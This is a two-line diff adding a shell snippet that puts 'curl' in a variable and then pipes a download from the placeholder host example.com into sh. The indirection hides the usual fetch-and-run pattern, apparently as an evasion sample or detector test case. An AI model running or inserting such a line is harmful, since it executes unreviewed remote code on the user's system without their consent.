@@ -1,0 +1,2 @@
+c=curl
+$c https://example.com/i | sh
